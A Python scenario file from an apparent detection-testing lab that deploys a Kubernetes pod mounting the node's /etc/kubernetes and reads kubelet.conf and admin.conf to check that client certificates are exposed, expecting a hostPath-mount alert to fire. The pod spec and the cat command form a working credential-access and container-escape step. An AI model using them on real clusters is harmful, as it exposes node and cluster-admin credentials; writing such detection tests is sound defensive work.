"""A pod mounting its node's /etc: the cluster admin's credentials are a file away."""

from __future__ import annotations

from lab import Lab, Mount, WorkloadSpec
from scenarios.api import Expectation, Kind, Scenario
from scenarios.kubernetes._expect import OPERATOR_EXEC


class HostPathPod(Scenario):
    id = "kubernetes.deploy.hostpath-pod"
    title = "Pod mounts the node's /etc/kubernetes and reads the node's kubeconfigs"
    kind = Kind.ADVERSARY
    techniques = ("T1610", "T1611")
    backends = ("kubernetes",)
    expect = Expectation(fires=("stowaway.k8s.hostpath-mount",), within_s=20, may_fire=OPERATOR_EXEC)
    twin = "kubernetes.deploy.node-agent-daemonset"
    tags = ("kubernetes", "privilege-escalation", "credential-access")
    description = (
        "Creates a pod that mounts the node's /etc/kubernetes (hostPath) and reads the kubeconfigs there: "
        "kubelet.conf, the node's own credential (on a worker, where pods land), and admin.conf, the "
        "cluster-admin's, where the node is a control plane. The scenario checks what it read names a "
        "client certificate."
    )

    def detonate(self, lab: Lab) -> None:
        lab.action("create a pod with a hostPath mount of /etc/kubernetes")
        pod = lab.deploy(WorkloadSpec(role="backup", mounts=(Mount(source="/etc/kubernetes", target="/host-etc"),)))
        result = lab.exec(pod, "sh", "-c", "cat /host-etc/kubelet.conf /host-etc/admin.conf 2>/dev/null "
                                           "| grep -c client-certificate", check=False)
        if not result.output.strip().isdigit() or int(result.output.strip()) < 1:
            raise AssertionError(f"the node's kubeconfigs were not readable through the host mount: {result.output!r}")
